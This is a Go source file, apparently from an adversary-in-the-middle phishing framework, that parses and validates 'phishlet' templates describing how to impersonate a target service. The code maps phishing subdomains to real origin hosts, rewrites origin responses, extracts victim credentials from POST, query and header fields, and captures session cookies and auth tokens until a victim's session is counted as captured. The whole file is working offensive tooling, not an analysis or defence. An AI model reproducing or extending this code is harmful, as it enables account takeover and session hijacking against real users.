package core

import (
	"fmt"
	"regexp"
	"strings"

	"gopkg.in/yaml.v2"
)

// ProxyHost maps one phishing subdomain to the origin host it impersonates.
type ProxyHost struct {
	PhishSub  string `yaml:"phish_sub"`
	OrigSub   string `yaml:"orig_sub"`
	Domain    string `yaml:"domain"`
	Session   bool   `yaml:"session"`
	IsLanding bool   `yaml:"is_landing"`
}

// SubFilter is one ordered search/replace rule applied to origin responses.
// The replace template may reference {hostname}, {subdomain} and {domain},
// resolved against the campaign's assigned phishing hostname.
type SubFilter struct {
	TriggersOn string   `yaml:"triggers_on"`
	OrigSub    string   `yaml:"orig_sub"`
	Domain     string   `yaml:"domain"`
	Search     string   `yaml:"search"`
	Replace    string   `yaml:"replace"`
	Mimes      []string `yaml:"mimes"`
}

// CredentialRule extracts one credential field from victim requests.
type CredentialRule struct {
	Key    string `yaml:"key"`
	Search string `yaml:"search"`
	Type   string `yaml:"type"`
}

// AuthTokenRule extracts one authentication token from origin responses.
type AuthTokenRule struct {
	Name     string `yaml:"name"`
	Type     string `yaml:"type"`
	Key      string `yaml:"key"`
	Search   string `yaml:"search"`
	Domain   string `yaml:"domain"`
	Optional bool   `yaml:"optional"`
}

// phishletFile is the persisted YAML shape. It is retained verbatim inside
// Phishlet so Marshal round-trips losslessly.
type phishletFile struct {
	Name        string                    `yaml:"name"`
	Author      string                    `yaml:"author"`
	ProxyHosts  []ProxyHost               `yaml:"proxy_hosts"`
	SubFilters  []SubFilter               `yaml:"sub_filters"`
	Credentials map[string]CredentialRule `yaml:"credentials"`
	AuthTokens  []AuthTokenRule           `yaml:"auth_tokens"`
}

type credPattern struct {
	name   string
	key    *regexp.Regexp
	search *regexp.Regexp
	tp     string
}

type tokenPattern struct {
	name     string
	tp       string
	key      *regexp.Regexp
	header   string
	search   *regexp.Regexp
	domain   string
	optional bool
}

// Phishlet is a validated, immutable template describing how to impersonate
// one target service. All patterns are compiled at load time; a phishlet
// that reaches a running campaign can no longer fail pattern compilation.
type Phishlet struct {
	Name   string
	Author string

	proxyHosts  []ProxyHost
	subFilters  []SubFilter
	credentials []*credPattern
	authTokens  []*tokenPattern

	src phishletFile
}

// ValidationError reports every invariant a phishlet definition violates,
// not just the first one found.
type ValidationError struct {
	Phishlet   string
	Violations []string
}

func (e *ValidationError) Error() string {
	return fmt.Sprintf("phishlet '%s' failed validation:\n - %s", e.Phishlet, strings.Join(e.Violations, "\n - "))
}

const (
	credSourcePost   = "post"
	credSourceQuery  = "query"
	credSourceHeader = "header"

	tokenTypeCookie = "cookie"
	tokenTypeHeader = "header"
)

func LoadPhishlet(path string) (*Phishlet, error) {
	data, err := ReadFromFile(path)
	if err != nil {
		return nil, err
	}
	return ParsePhishlet(data)
}

func ParsePhishlet(data []byte) (*Phishlet, error) {
	var pf phishletFile
	if err := yaml.Unmarshal(data, &pf); err != nil {
		return nil, fmt.Errorf("phishlet: %v", err)
	}

	p := &Phishlet{
		Name:       pf.Name,
		Author:     pf.Author,
		proxyHosts: pf.ProxyHosts,
		subFilters: pf.SubFilters,
		src:        pf,
	}

	var violations []string
	fail := func(format string, args ...interface{}) {
		violations = append(violations, fmt.Sprintf(format, args...))
	}

	if pf.Name == "" {
		fail("missing 'name'")
	}
	if len(pf.ProxyHosts) == 0 {
		fail("at least one proxy_hosts entry is required")
	}

	domains := make(map[string]bool)
	routes := make(map[string]bool)
	landing := 0
	for _, ph := range pf.ProxyHosts {
		if ph.Domain == "" {
			fail("proxy_hosts: missing 'domain' for phish_sub '%s'", ph.PhishSub)
			continue
		}
		domains[strings.ToLower(ph.Domain)] = true
		route := combineHost(ph.PhishSub, ph.Domain)
		if routes[route] {
			fail("proxy_hosts: duplicate routing pair '%s' + '%s'", ph.PhishSub, ph.Domain)
		}
		routes[route] = true
		if ph.IsLanding {
			landing++
		}
	}
	if landing == 0 {
		fail("proxy_hosts: no entry has 'is_landing: true'")
	} else if landing > 1 {
		fail("proxy_hosts: %d entries have 'is_landing: true', expected exactly one", landing)
	}

	for i, sf := range pf.SubFilters {
		if !domains[strings.ToLower(sf.Domain)] {
			fail("sub_filters[%d]: domain '%s' not present in proxy_hosts", i, sf.Domain)
		}
	}

	for name, cr := range pf.Credentials {
		cp := &credPattern{name: name, tp: cr.Type}
		if !stringExists(cr.Type, []string{credSourcePost, credSourceQuery, credSourceHeader}) {
			fail("credentials['%s']: unknown source type '%s'", name, cr.Type)
		}
		var err error
		if cp.key, err = regexp.Compile(cr.Key); err != nil {
			fail("credentials['%s']: key pattern does not compile: %v", name, err)
		}
		if cp.search, err = regexp.Compile(cr.Search); err != nil {
			fail("credentials['%s']: search pattern does not compile: %v", name, err)
		}
		p.credentials = append(p.credentials, cp)
	}

	for i, at := range pf.AuthTokens {
		tp := &tokenPattern{name: at.Name, tp: at.Type, domain: strings.ToLower(at.Domain), optional: at.Optional}
		switch at.Type {
		case tokenTypeCookie:
			var err error
			if tp.key, err = regexp.Compile(at.Key); err != nil {
				fail("auth_tokens[%d]: key pattern does not compile: %v", i, err)
			}
		case tokenTypeHeader:
			tp.header = at.Key
		default:
			fail("auth_tokens[%d]: unknown token type '%s'", i, at.Type)
		}
		if at.Search != "" {
			var err error
			if tp.search, err = regexp.Compile(at.Search); err != nil {
				fail("auth_tokens[%d]: search pattern does not compile: %v", i, err)
			}
		}
		if at.Domain != "" && !domains[strings.TrimPrefix(strings.ToLower(at.Domain), ".")] {
			fail("auth_tokens[%d]: domain '%s' not present in proxy_hosts", i, at.Domain)
		}
		p.authTokens = append(p.authTokens, tp)
	}

	if len(violations) > 0 {
		return nil, &ValidationError{Phishlet: pf.Name, Violations: violations}
	}
	return p, nil
}

// Marshal re-serializes the phishlet to its persisted YAML form. Load,
// Marshal, load again yields a field-for-field equal definition.
func (p *Phishlet) Marshal() ([]byte, error) {
	return yaml.Marshal(&p.src)
}

func (p *Phishlet) ProxyHosts() []ProxyHost {
	return p.proxyHosts
}

// LandingHost returns the single proxy host marked as the campaign entry
// point. Validation guarantees one exists.
func (p *Phishlet) LandingHost() ProxyHost {
	for _, ph := range p.proxyHosts {
		if ph.IsLanding {
			return ph
		}
	}
	return ProxyHost{}
}

func (p *Phishlet) CredentialRules() map[string]CredentialRule {
	return p.src.Credentials
}

func (p *Phishlet) AuthTokenRules() []AuthTokenRule {
	return p.src.AuthTokens
}

func (p *Phishlet) GetProxyHostBySub(phishSub string) (ProxyHost, bool) {
	for _, ph := range p.proxyHosts {
		if strings.EqualFold(ph.PhishSub, phishSub) {
			return ph, true
		}
	}
	return ProxyHost{}, false
}

// getAuthToken finds the cookie token rule matching the Set-Cookie domain
// and cookie name, honoring the rule's domain scope.
func (p *Phishlet) getAuthToken(domain string, name string) *tokenPattern {
	for _, at := range p.authTokens {
		if at.tp != tokenTypeCookie {
			continue
		}
		if at.domain != "" && !cookieDomainMatch(domain, at.domain) {
			continue
		}
		if at.key.MatchString(name) {
			return at
		}
	}
	return nil
}

// requiredTokenCount is the number of non-optional auth token rules; a
// session needs all of them before it counts as captured.
func (p *Phishlet) requiredTokenCount() int {
	n := 0
	for _, at := range p.authTokens {
		if !at.optional {
			n++
		}
	}
	return n
}

func (p *Phishlet) requiredTokensPresent(tokens map[string]string) bool {
	for _, at := range p.authTokens {
		if at.optional {
			continue
		}
		if _, ok := tokens[at.name]; !ok {
			return false
		}
	}
	return true
}

// cookieDomainMatch reports whether a Set-Cookie domain falls within a token
// rule's scope. A rule domain with a leading dot covers all subdomains.
func cookieDomainMatch(cookieDomain string, ruleDomain string) bool {
	cd := strings.TrimPrefix(strings.ToLower(cookieDomain), ".")
	rd := strings.TrimPrefix(strings.ToLower(ruleDomain), ".")
	return cd == rd || strings.HasSuffix(cd, "."+rd)
}
